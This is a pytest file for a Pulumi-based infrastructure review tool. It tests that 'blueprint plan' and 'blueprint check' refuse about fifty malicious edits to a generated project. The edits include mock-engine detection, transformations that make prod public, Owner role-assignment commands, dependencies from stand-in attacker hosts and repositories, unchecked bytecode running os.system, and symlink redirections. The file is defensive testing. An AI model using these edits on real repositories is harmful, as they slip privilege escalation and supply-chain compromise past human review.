"""Attacks on a generated project that must make `blueprint plan` or `blueprint check` fail.

Each case is an edit someone with write access to the project repository could push in a pull
request to make the offline review pass while `pulumi up` does something else: a program that
behaves differently under the mock engine, a Pulumi.yaml that points at other files, a stack file
that says one thing to the reviewer and another to Pulumi, or input the tools cannot read. Every
case runs on a private copy of a freshly rendered project (`project_copy`).

Programs that differ from the blueprint's are refused outright unless the project declares a
custom program (`.cloud/infra/custom-program.yaml`); several cases declare one on purpose, so
they prove the runtime guard behind that first line, not only the declaration rule.
"""

from __future__ import annotations

import json
import os
import py_compile
import re
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from cli_helpers import blueprint, git

from blueprint_infra import policies

INFRA = Path(".cloud") / "infra"
SLUG = "customer-churn"
RUN_BLUEPRINT = "from blueprint_infra.program import run_environment\n\nrun_environment()\n"


def declare_custom_program(project: Path, reason: str = "test: a team's own program") -> None:
    (project / INFRA / "custom-program.yaml").write_text(f"reason: {json.dumps(reason)}\n")


def program(project: Path, source: str, *, declare: bool = True) -> None:
    (project / INFRA / "__main__.py").write_text(source)
    if declare:
        declare_custom_program(project)


def append(path: Path, text: str) -> None:
    with path.open("a", encoding="utf-8") as handle:
        handle.write(text)


def replace_regex(path: Path, pattern: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    changed = re.sub(pattern, new, text, count=1, flags=re.MULTILINE)
    assert changed != text, f"{pattern!r} not in {path}"
    path.write_text(changed, encoding="utf-8")


def replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new), encoding="utf-8")


def commit_virtualenv(project: Path, folder: Path) -> None:
    """A virtualenv with a pip.conf that picks the index, committed as an attacker would."""
    (project / folder).mkdir(parents=True)
    (project / folder / "pip.conf").write_text("[global]\nindex-url = https://pypi.example/\n")
    git(project, "init", "-q")
    git(project, "add", "-f", str(folder))


def link_into_code(project: Path, name: str) -> None:
    """Move a program file into code/ (owned by the data scientists) and link it back."""
    moved = project / "code" / name.replace("/", "-")
    shutil.move(project / INFRA / name, moved)
    os.symlink(os.path.relpath(moved, (project / INFRA / name).parent), project / INFRA / name)


def bytecode(path: Path, source: str) -> None:
    """`source` compiled to a .pyc that Python runs without checking it against any source."""
    source_file = path.with_name("source_of_" + path.stem.replace(".", "_") + ".py")
    source_file.write_text(source)
    py_compile.compile(str(source_file), cfile=str(path),
                       invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    source_file.unlink()


@dataclass(frozen=True)
class Attack:
    name: str
    edit: Callable[[Path], None]
    names: str  # the file (or words) the one error line must name
    command: str = "plan"  # plan (--env prod) or check


ATTACKS = [
    # --- a program that behaves differently under the mock engine -----------------------------
    Attack("exits early when it sees the mock engine", lambda p: program(p, (
        "import sys\n"
        "from pulumi.runtime import settings\n"
        "from pulumi.runtime.mocks import MockMonitor\n"
        "if isinstance(settings.SETTINGS.monitor, MockMonitor):\n"
        "    sys.exit(0)\n" + RUN_BLUEPRINT)), "exited"),
    Attack("ends the process with os._exit", lambda p: program(
        p, "import os\nos._exit(0)\n" + RUN_BLUEPRINT), "os._exit"),
    Attack("raises SystemExit", lambda p: program(
        p, "raise SystemExit(0)\n" + RUN_BLUEPRINT), "SystemExit"),
    Attack("kills its own process", lambda p: program(
        p, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"), "ended the preview"),
    Attack("registers nothing", lambda p: program(p, "x = 1\n"), "no cloud resource"),
    Attack("a stack transformation makes the prod workspace public", lambda p: program(p, (
        "import pulumi\n"
        "def public(args):\n"
        "    if args.type_ == 'azure-native:machinelearningservices:Workspace':\n"
        "        return pulumi.ResourceTransformationResult(\n"
        "            {**args.props, 'public_network_access': 'Enabled'}, args.opts)\n"
        "pulumi.runtime.register_stack_transformation(public)\n" + RUN_BLUEPRINT)),
        "prod-workspace-private"),
    Attack("an engine-side stack transform the mocks would never apply", lambda p: program(p, (
        "import pulumi\n"
        "pulumi.runtime.register_stack_transform(\n"
        "    lambda args: pulumi.ResourceTransformResult(args.props, args.opts))\n"
        + RUN_BLUEPRINT)), "register_stack_transform"),
    Attack("a resource hook that runs code during pulumi up", lambda p: program(p, (
        RUN_BLUEPRINT + "import pulumi\n"
        "hook = pulumi.ResourceHook('grant', lambda args: None)\n"
        "pulumi.CustomResource('azure-native:resources:ResourceGroup', 'extra',\n"
        "    {'resourceGroupName': 'x'},\n"
        "    opts=pulumi.ResourceOptions(hooks=pulumi.ResourceHookBinding(\n"
        "        before_create=[hook])))\n")), "hook"),
    Attack("a command resource that runs a shell during pulumi up", lambda p: program(p, (
        RUN_BLUEPRINT + "import pulumi\n"
        "pulumi.CustomResource('command:local:Command', 'grant',\n"
        "    {'create': 'az role assignment create --role Owner ...'})\n")), "command:local"),
    Attack("a provider plugin downloaded from elsewhere", lambda p: program(p, (
        RUN_BLUEPRINT + "import pulumi\n"
        "pulumi.CustomResource('azure-native:resources:ResourceGroup', 'extra',\n"
        "    {'resourceGroupName': 'x'}, opts=pulumi.ResourceOptions(\n"
        "        plugin_download_url='https://plugins.example/azure-native'))\n")),
        "plugins.example"),
    Attack("a dynamic provider (Python run by pulumi up)", lambda p: program(p, (
        RUN_BLUEPRINT + "import pulumi\nfrom pulumi.dynamic import Resource, ResourceProvider\n"
        "class Grant(ResourceProvider):\n"
        "    def create(self, props):\n"
        "        raise RuntimeError('would grant Owner here')\n"
        "class GrantOwner(Resource):\n"
        "    def __init__(self, name):\n"
        "        super().__init__(Grant(), name, {})\n"
        "GrantOwner('grant')\n")), "dynamic"),
    Attack("a custom __main__.py without a declaration", lambda p: program(
        p, RUN_BLUEPRINT + "print('also this')\n", declare=False), "__main__.py"),
    Attack("a module beside the program shadows the blueprint package", lambda p: (
        (p / INFRA / "blueprint_infra").mkdir(),
        (p / INFRA / "blueprint_infra" / "__init__.py").write_text("")),
        ".cloud/infra/blueprint_infra"),
    Attack("a custom-program declaration without a reason", lambda p: (
        program(p, RUN_BLUEPRINT + "print(1)\n", declare=False),
        (p / INFRA / "custom-program.yaml").write_text("reason: ''\n")), "custom-program.yaml"),
    # --- a Pulumi.yaml that points at other files -----------------------------------------------
    Attack("main: runs another program", lambda p: append(
        p / INFRA / "Pulumi.yaml", "main: ../../code/\n"), "main:"),
    Attack("stackConfigDir: reads other stack files", lambda p: append(
        p / INFRA / "Pulumi.yaml", "stackConfigDir: ../../code/\n"), "stackConfigDir:"),
    Attack("project-level config the stack files do not show", lambda p: append(
        p / INFRA / "Pulumi.yaml", f"config:\n  {SLUG}:publicNetworkAccess: Enabled\n"),
        "config:"),
    Attack("a provider plugin from elsewhere", lambda p: append(
        p / INFRA / "Pulumi.yaml", "plugins:\n  providers:\n    - name: azure-native\n"
        "      path: ../../bin\n"), "plugins:"),
    Attack("a virtualenv elsewhere", lambda p: replace(
        p / INFRA / "Pulumi.yaml", "virtualenv: venv", "virtualenv: ../../code/venv"),
        "virtualenv"),
    Attack("another toolchain (installs from other files)", lambda p: replace(
        p / INFRA / "Pulumi.yaml", "toolchain: pip", "toolchain: poetry"), "toolchain"),
    Attack("a second project file", lambda p: (p / INFRA / "Pulumi.yml").write_text(
        f"name: {SLUG}\nruntime: python\nmain: ../../code/\n"), "Pulumi.yml"),
    Attack("the bootstrap's Pulumi.yaml redirects too", lambda p: append(
        p / INFRA / "bootstrap" / "Pulumi.yaml", "main: ../../../code/\n"),
        "bootstrap/Pulumi.yaml", "check"),
    # --- stack files that say one thing to the reviewer, another to Pulumi --------------------
    Attack("a stack file repeats a key", lambda p: append(
        p / INFRA / "Pulumi.prod.yaml", f'  {SLUG}:publicNetworkAccess: "Enabled"\n'),
        "duplicate key"),
    Attack("a stack file imports a Pulumi ESC environment", lambda p: append(
        p / INFRA / "Pulumi.prod.yaml", "environment:\n  - team/prod-overrides\n"),
        "environment:"),
    Attack("the dev stack grants a human Contributor on prod's group", lambda p: program(p, (
        RUN_BLUEPRINT + "import pulumi\nimport pulumi_azure_native as azn\n"
        "if pulumi.get_stack() == 'dev':\n"
        "    azn.authorization.RoleAssignment('in-prod',\n"
        "        principal_id='44444444-4444-4444-4444-444444444444', principal_type='User',\n"
        "        role_definition_id='b24988ac-6180-42a0-ab88-20f7382dd24c',\n"
        f"        scope='/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/"
        f"rg-{SLUG}-prod')\n")), "grants-in-own-environment", "check"),
    # --- provider and engine config the program never reads -----------------------------------
    Attack("the provider's metadata host (where the deploy token goes)", lambda p: append(
        p / INFRA / "Pulumi.prod.yaml", '  azure-native:metadataHost: "arm.example"\n'),
        "azure-native:metadataHost"),
    Attack("the provider's subscription", lambda p: append(
        p / INFRA / "Pulumi.prod.yaml",
        '  azure-native:subscriptionId: "11111111-1111-1111-1111-111111111111"\n'),
        "azure-native:subscriptionId"),
    Attack("the engine's default providers", lambda p: append(
        p / INFRA / "Pulumi.prod.yaml", '  pulumi:disable-default-providers: ["*"]\n'),
        "pulumi:disable-default-providers"),
    Attack("the bootstrap's provider config", lambda p: append(
        p / INFRA / "bootstrap" / "Pulumi.platform.yaml",
        '  azure-native:auxiliaryTenantIds: ["11111111-1111-1111-1111-111111111111"]\n'),
        "azure-native:auxiliaryTenantIds", "check"),
    Attack("a setting as an encrypted value no preview can read", lambda p: replace(
        p / INFRA / "Pulumi.prod.yaml", f'{SLUG}:publicNetworkAccess: "Disabled"',
        f"{SLUG}:publicNetworkAccess:\n    secure: AAABAKZ1bm55"), "secure value"),
    # --- symbolic links: the file lives where CODEOWNERS gives it to others ------------------
    Attack("__main__.py a link into code/", lambda p: link_into_code(p, "__main__.py"),
           "__main__.py: is a symbolic link"),
    Attack("a stack file a link into code/", lambda p: link_into_code(p, "Pulumi.prod.yaml"),
           "Pulumi.prod.yaml: is a symbolic link"),
    Attack("the policy pack's program a link into code/", lambda p: link_into_code(
        p, "policy_pack/__main__.py"), "policy_pack/__main__.py: plan: is a symbolic link",
        "check"),
    Attack(".cloud/infra a link into code/", lambda p: (
        shutil.move(p / INFRA, p / "code" / "infra"),
        os.symlink("../code/infra", p / INFRA)), ".cloud/infra: is a symbolic link"),
    # --- the bootstrap's stack: whom the deploy identities trust --------------------------------
    Attack("the bootstrap trusts another repository", lambda p: replace_regex(
        p / INFRA / "bootstrap" / "Pulumi.platform.yaml", r'(:repository: )"[^"]*"',
        r'\1"attacker/churn"'), "repository is 'attacker/churn'", "check"),
    Attack("the bootstrap trusts another CI provider", lambda p: replace(
        p / INFRA / "bootstrap" / "Pulumi.platform.yaml", 'ciProvider: "github"',
        'ciProvider: "azure-devops"'), "ciProvider is 'azure-devops'", "check"),
    Attack("the bootstrap creates identities for other environments", lambda p: replace(
        p / INFRA / "bootstrap" / "Pulumi.platform.yaml", '    - "prod"\n',
        '    - "prod"\n    - "prod2"\n'), "environments is", "check"),
    # --- what pulumi installs and the rules it is judged by -----------------------------------
    Attack("requirements from another index", lambda p: append(
        p / INFRA / "requirements.txt", "--extra-index-url https://pypi.example/simple\n"),
        "requirements.txt"),
    Attack("the blueprint from a URL", lambda p: replace(
        p / INFRA / "requirements.txt", "mlops-blueprint @ git+",
        "mlops-blueprint @ https://example.com/mlops_blueprint.whl\n# was "),
        "requirements.txt"),
    Attack("the blueprint from an index", lambda p: replace(
        p / INFRA / "requirements.txt", "mlops-blueprint @ git+",
        "mlops-blueprint==0.2.0\n# was "),
        "requirements.txt"),
    Attack("the blueprint from an index under another spelling, the pin skipped by a marker",
           lambda p: replace_regex(
               p / INFRA / "requirements.txt", r"^(mlops-blueprint @ git\+\S+)$",
               'MLOps.Blueprint==9.9 ; python_version >= "3"\n\\1 ; python_version < "3"'),
           "requirements.txt"),
    Attack("the blueprint at a branch, not a commit", lambda p: replace_regex(
        p / INFRA / "requirements.txt", r"@[0-9a-f]{40}$", "@main"),
        "requirements.txt"),
    Attack("a package beside the blueprint (its .pth runs in pulumi up)", lambda p: append(
        p / INFRA / "requirements.txt", "evil-helper==1.0\n"), "evil-helper"),
    Attack("a package beside the policy SDK in the pack", lambda p: append(
        p / INFRA / "policy_pack" / "requirements.txt", "evil-helper==1.0\n"),
        "policy_pack/requirements.txt", "check"),
    Attack("the blueprint from another repository than the template's", lambda p: (
        replace_regex(p / ".copier-answers.yml", r"^_src_path: .*$",
                      "_src_path: https://github.com/contoso/mlops-blueprint.git"),
        replace_regex(p / INFRA / "requirements.txt", r"git\+https://\S+@(?=[0-9a-f]{40}$)",
                      "git+https://github.com/attacker/mlops-blueprint.git@")),
        "github.com/attacker"),
    Attack("a virtualenv committed beside the program (its pip.conf picks the index)",
           lambda p: commit_virtualenv(p, INFRA / "venv"), ".cloud/infra/venv"),
    Attack("a virtualenv committed in the policy pack", lambda p: commit_virtualenv(
        p, INFRA / "policy_pack" / "venv"), "policy_pack/venv", "check"),
    Attack("an extension module shadows the blueprint package", lambda p: (
        p / INFRA / "blueprint_infra.abi3.so").write_bytes(b"\x7fELF"), "blueprint_infra.abi3.so"),
    Attack("a package of bytecode only shadows the blueprint package", lambda p: (
        (p / INFRA / "blueprint_infra").mkdir(),
        bytecode(p / INFRA / "blueprint_infra" / "__init__.pyc", "x = 1\n")),
        ".cloud/infra/blueprint_infra"),
    Attack("unchecked bytecode in __pycache__ replaces __main__.py", lambda p: (
        (p / INFRA / "__pycache__").mkdir(exist_ok=True),
        bytecode(p / INFRA / "__pycache__" / f"__main__.{sys.implementation.cache_tag}.pyc",
                 "import os\nos.system('id')\n" + RUN_BLUEPRINT)), "__main__."),
    Attack("the policy pack weakened", lambda p: append(
        p / INFRA / "policy_pack" / "__main__.py", "\nPOLICIES = []\n"),
        "policy_pack/__main__.py", "check"),
    Attack("the policy pack removed", lambda p: shutil.rmtree(p / INFRA / "policy_pack"),
           "policy_pack", "check"),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_makes_plan_or_check_fail(attack, project_copy):
    attack.edit(project_copy)
    if attack.command == "plan":
        run = blueprint("plan", project_copy, "--env", "prod")
        text = run.stderr + run.stdout
    else:
        run = blueprint("check", project_copy)
        text = run.stdout + run.stderr
    assert run.exit_code != 0, text
    assert attack.names in text, text
    assert "Traceback" not in text


def test_a_transformation_that_drops_protect_is_seen(project_copy):
    """`protect` is read from what the program registered, after its own transformations (a
    recording transformation of ours registered first would still have seen True)."""
    program(project_copy, (
        "import pulumi\n"
        "def unprotect(args):\n"
        "    return pulumi.ResourceTransformationResult(\n"
        "        args.props, pulumi.ResourceOptions.merge(args.opts,\n"
        "                                              pulumi.ResourceOptions(protect=False)))\n"
        "pulumi.runtime.register_stack_transformation(unprotect)\n" + RUN_BLUEPRINT))
    run = blueprint("plan", project_copy, "--env", "prod", "--format", "json")
    plan = json.loads(run.stdout)
    vaults = [r for r in plan["resources"] if r["type"] == "azure-native:keyvault:Vault"]
    assert vaults and not any(v["protect"] for v in vaults)
    if any("protect" in name and "purge" not in name for name in policies.POLICIES):
        assert run.exit_code == 1  # the prod-protect policy (issue 7 item 4) names it


def test_the_blueprint_program_registers_prod_protected(fresh_project):
    """The other side of the case above: unedited, prod's stateful resources are protected."""
    run = blueprint("plan", fresh_project, "--env", "prod", "--format", "json")
    plan = json.loads(run.stdout)
    vaults = [r for r in plan["resources"] if r["type"] == "azure-native:keyvault:Vault"]
    assert vaults and all(v["protect"] for v in vaults)


# --- a declared custom program is allowed, and every output says so ---------------------------


@pytest.fixture
def custom_project(project_copy) -> Path:
    program(project_copy, '"""Our own program."""\n' + RUN_BLUEPRINT + "print('ours')\n")
    declare_custom_program(project_copy, "adds a DNS zone (PLAT-42)")
    return project_copy


def test_a_declared_custom_program_is_named_in_json(custom_project):
    run = blueprint("plan", custom_project, "--format", "json")
    assert run.exit_code == 0, run.stderr
    for plan in json.loads(run.stdout):
        first = plan["advisories"][0]
        assert first["policy"] == "custom-program"
        assert first["resource"] == ".cloud/infra/__main__.py"
        assert "PLAT-42" in first["message"]
    # the program's print() stays out of the JSON: the document parsed above is all of stdout


@pytest.mark.parametrize("output_format", ["table", "markdown"])
def test_a_declared_custom_program_is_named_in_table_and_markdown(custom_project, output_format):
    run = blueprint("plan", custom_project, "--env", "dev", "--format", output_format)
    assert run.exit_code == 0, run.stderr
    assert "custom-program" in run.stdout and "PLAT-42" in run.stdout


def test_a_declared_custom_program_is_named_by_check(custom_project):
    run = blueprint("check", custom_project)
    assert run.exit_code == 0, run.stdout + run.stderr
    assert "CUSTOM PROGRAM .cloud/infra/__main__.py" in run.stdout
    assert "PLAT-42" in run.stdout


def test_comments_and_docstrings_do_not_make_a_program_custom(project_copy):
    main = project_copy / INFRA / "__main__.py"
    main.write_text('"""Reworded."""\n# a comment\n\n' + RUN_BLUEPRINT.replace("\n\n", "\n"))
    run = blueprint("plan", project_copy, "--env", "dev", "--format", "json")
    assert run.exit_code == 0, run.stderr
    assert all(a["policy"] != "custom-program" for a in json.loads(run.stdout)["advisories"])


# --- bad input: one line naming the file, exit 2, nothing written ------------------------------


def undecodable(relative: str) -> Callable[[Path], None]:
    return lambda p: append_bytes(p / relative, b"\n# \xff\xfe not UTF-8\n")


def append_bytes(path: Path, data: bytes) -> None:
    with path.open("ab") as handle:
        handle.write(data)


def dangling_stack(p: Path) -> None:
    os.symlink("Pulumi.gone.yaml", p / INFRA / "Pulumi.qa.yaml")


def looping_stack(p: Path) -> None:
    os.symlink("Pulumi.qa.yaml", p / INFRA / "Pulumi.qa.yaml")


def stack_replaced_by_loop(p: Path) -> None:
    (p / INFRA / "Pulumi.prod.yaml").unlink()
    os.symlink("Pulumi.prod.yaml", p / INFRA / "Pulumi.prod.yaml")


def symlink_loop_elsewhere(p: Path) -> None:
    os.symlink("a", p / INFRA / "b")
    os.symlink("b", p / INFRA / "a")
    dangling_stack(p)


BAD_INPUT = {
    "undecodable stack file": (undecodable(".cloud/infra/Pulumi.prod.yaml"),
                               ".cloud/infra/Pulumi.prod.yaml", "not UTF-8"),
    "undecodable answers file": (undecodable(".copier-answers.yml"), ".copier-answers.yml",
                                 "not UTF-8"),
    "undecodable Pulumi.yaml": (undecodable(".cloud/infra/Pulumi.yaml"), "Pulumi.yaml",
                                "not UTF-8"),
    "dangling stack link": (dangling_stack, ".cloud/infra/Pulumi.qa.yaml", "dangling"),
    "looping stack link": (looping_stack, ".cloud/infra/Pulumi.qa.yaml", "loops"),
    "stack file replaced by a loop": (stack_replaced_by_loop, ".cloud/infra/Pulumi.prod.yaml",
                                      "loops"),
    "loops elsewhere and a dangling stack": (symlink_loop_elsewhere,
                                             ".cloud/infra/Pulumi.qa.yaml", "dangling"),
}


def snapshot(root: Path) -> dict[str, tuple[int, int]]:
    """Every entry under root (links not followed) with its size and modification time."""
    found = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder) / name
            info = path.lstat()
            found[str(path.relative_to(root))] = (info.st_size, info.st_mtime_ns)
    return found


@pytest.mark.parametrize("command", ["plan", "check"])
@pytest.mark.parametrize("case", list(BAD_INPUT), ids=list(BAD_INPUT))
def test_bad_input_is_one_line_exit_2_nothing_written(case, command, project_copy):
    edit, names, why = BAD_INPUT[case]
    edit(project_copy)
    before = snapshot(project_copy)
    run = blueprint(command, project_copy)
    assert run.exit_code == 2, run.stdout + run.stderr
    assert len(run.error_lines) == 1, run.stderr
    assert names in run.error_lines[0] and why in run.error_lines[0], run.error_lines
    assert "Traceback" not in run.stderr + run.stdout
    assert snapshot(project_copy) == before
